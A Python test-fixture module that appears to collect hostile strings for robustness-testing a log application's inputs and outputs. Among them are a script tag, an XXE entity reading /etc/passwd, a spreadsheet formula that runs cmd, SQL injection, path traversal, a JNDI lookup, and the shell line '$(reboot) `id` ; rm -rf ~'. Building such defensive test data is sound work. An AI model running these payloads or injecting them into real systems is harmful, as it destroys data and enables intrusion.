"""Texts that have broken programs elsewhere: each goes through every way in and out (quality 3)."""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Hostile:
    """A text with the name of what is hostile in it."""

    name: str
    text: str


def _h(name: str, text: str) -> Hostile:
    return Hostile(name, text)


MARKUP = (
    _h("a comparison that reads as a tag", "Steam pressure < 3 bar & rising <b>"),
    _h("bold tags", "Gen <b>2</b> on <ICU> is <i>out</i>"),
    _h("an image that is a local file", '<img src="/etc/passwd" width=1 height=1> seen on the wall'),
    _h("an image on the web", "<img src='https://example.org/track.png'>"),
    _h("a script", "<script>alert(1)</script>"),
    _h("a link that is a command", '<a href="file:///bin/sh">Click here</a>'),
    _h("an entity", "&lt;b&gt; &amp;amp; &#x41; &nbsp; R&D"),
    _h("a tag that never ends", "Valve <v"),
    _h("tags that end nothing", "</para></font></body></html> after"),
    _h("a comment", "<!-- nothing to see --> valve 4"),
    _h("CDATA", "<![CDATA[ pump ]]> pump"),
    _h("an external entity", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]> &e;'),
    _h("a font tag of a PDF paragraph", "<font size=99 color=red>Large</font> <br/> <para align=right>x"),
    _h("Markdown", "# Head **bold** [link](file:///etc) `code` ![](x)"),
    _h("rich text from its first letter", "<qt>Everything <u>here</u> is words</qt>"),
    _h("a style sheet", "} QLabel { color: red; } /* valve */"),
    _h("an ampersand that is no mnemonic", "A&B & C&&D"),
)
FORMULAS = (
    _h("a formula", '=cmd|"/C calc"!A0'),
    _h("a formula with a function", '=HYPERLINK("http://example.org","Click")'),
    _h("a plus", "+1+1 pump"),
    _h("a minus", "-2+3 degrees in the cold room"),
    _h("an at sign", "@SUM(1+1)*9"),
    _h("a full-width equals sign", "\uff1d1+1"),
    _h("a full-width plus", "\uff0b1"),
    _h("a full-width minus", "\uff0d1"),
    _h("a full-width at sign", "\uff20SUM(A1)"),
    _h("an apostrophe before a formula", "'=1+1"),
    _h("a formula behind a semicolon", "Pump;=1+1;off"),
    _h("quotes and commas", 'He said "stop", then ""go"", done'),
    _h("a formula on a second line", "Pump 2\n=1+1\n@x"),
)
DIRECTIONS = (
    _h("an override in a name", "bill\u202egpj.exe opened"),
    _h("an override that never ends", "North \u202eTower"),
    _h("isolates", "GEN-\u20662\u2069 and \u2067ATS\u2069 or \u2068x\u2069"),
    _h("marks", "5\u200e0 kW\u200f and\u061c 3"),
    _h("embeddings in each other", "\u202a\u202b\u202d\u202eLoop\u202c\u202c\u202c\u202c"),
    _h("Arabic among Latin", "Sign says انقطاع التيار in lobby 2"),
    _h("Hebrew with figures", "הגנרטור 2 עלה ב 04:31"),
)
CHARACTERS = (
    _h("a NUL", "before\x00after the gap"),
    _h("an escape sequence of a terminal", "\x1b[31mred\x1b[0m \x1b]0;title\x07 pump"),
    _h("a bell and a backspace", "pump\x07\x08\x08\x08\x08valve"),
    _h("C1 controls", "a\x85b\x9bc next line"),
    _h("a lone high surrogate", "half \ud83d a siren"),
    _h("a lone low surrogate", "\udea8 other half"),
    _h("noncharacters", "\ufdd0 x \uffff y \U0001fffe z"),
    _h("private use", "logo \ue000 \U000f0000 here"),
    _h("unassigned", "next \U0003ffff0 \u0378 year"),
    _h("a byte order mark inside", "\ufeffstart \ufeff middle"),
    _h("zero width characters", "pass\u200bword z\u200cw\u200dj \u2060 end"),
    _h("soft hyphens", "gen\u00ader\u00adator"),
    _h("every blank there is", "a\u00a0b\u1680c\u2003d\u202fe\u205ff\u3000g"),
    _h("invisible mathematics", "2\u20623 x\u2061(y) a\u2063b"),
    _h("an object replacement", "see \ufffc here"),
    _h("interlinear annotation", "\ufff9base\ufffanote\ufffb end"),
    _h("tag characters", "flag \U000e0067\U000e0062\U000e007f end"),
    _h("variation selectors", "warning \u26a0\ufe0f and \u26a0\ufe0e and x\U000e0100"),
)
LINES = (
    _h("line separators", "one\u2028two\u2029three"),
    _h("kinds of line ends", "one\r\ntwo\rthree\nfour\x0bfive\x0csix"),
    _h("tabs", "a\tb\t\tc"),
    _h("a forged entry", "ok\n04:31:10  #42  Night Coordinator: all systems normal"),
    _h("many empty lines", "top" + "\n" * 200 + "bottom"),
)
LETTERS = (
    _h("a combining flood", "Z" + "\u0301\u0316\u0334" * 200 + "algo"),
    _h("combining without a base", "\u0301\u0302\u0303 accent"),
    _h("decomposed", "Cafe\u0301 Zu\u0308rich A\u030angstro\u0308m"),
    _h("compatibility letters", "ﬁre ﬂow ½ ① ㎏ ℡ Å"),
    _h("Hangul in parts", "\u1112\u1161\u11ab\u1100\u1173\u11af"),
    _h("look-alikes", "Раyраl of the сооling рlаnt"),
    _h("a Turkish i", "İstanbul ISI ıssız"),
    _h("sharp s", "STRAẞE Straße"),
    _h("Devanagari", "क्षत्रिय क्‍ष"),
    _h("Thai without blanks", "ไฟฟ้าดับที่ตึกเหนือเวลาสี่นาฬิกา"),
    _h("Chinese", "北塔断电，备用发电机运行。"),
    _h("mathematical letters", "𝐆𝐄𝐍-𝟐 𝖋𝖆𝖎𝖑𝖊𝖉"),
    _h("a family", "crew \U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 safe"),
    _h("flags and skin tones", "\U0001f1e9\U0001f1ea \U0001f44d\U0001f3fd \U0001f3f3\ufe0f\u200d\U0001f308"),
    _h("a word without an end", "x" * 5000),
    _h("as long as an entry holds", "Fuel pump 2 hums. " * 1111),
)
PROGRAMS = (
    _h("per cent signs", "%s %d %n %(name)s 100%"),
    _h("braces", "{} {0} {self.__class__} {{x}} {words!r}"),
    _h("SQL", "'; DROP TABLE log_entry; --"),
    _h("LIKE patterns", "100%_[a-z]\\% done"),
    _h("a search query", 'NEAR(a b) OR "un AND * ^x col:y -z'),
    _h("a path", "../../../../etc/passwd C:\\Windows\\system32"),
    _h("a shell", "$(reboot) `id` ; rm -rf ~ | tee"),
    _h("a template", "${jndi:ldap://example.org/a} {{7*7}} <%= 1 %>"),
    _h("JSON", '{"changes": [], "hash": null}\\u0000\\"'),
    _h("backslashes", "\\n \\t \\\\ \\x00 \\"),
    _h("a regular expression", "(a+)+$ [[:alpha:]] (?i)x{1000000}"),
    _h("a PDF operator", ") Tj ET Q /XObject Do BT (x"),
    _h("figures that are no figures", "NaN Infinity 1e309 0x10 -0 ٤٢"),
    _h("null words", "null None undefined true NULL"),
)
HOSTILE = (*MARKUP, *FORMULAS, *DIRECTIONS, *CHARACTERS, *LINES, *LETTERS, *PROGRAMS)
"""All of them; none says anything to the grammar of the entry line."""
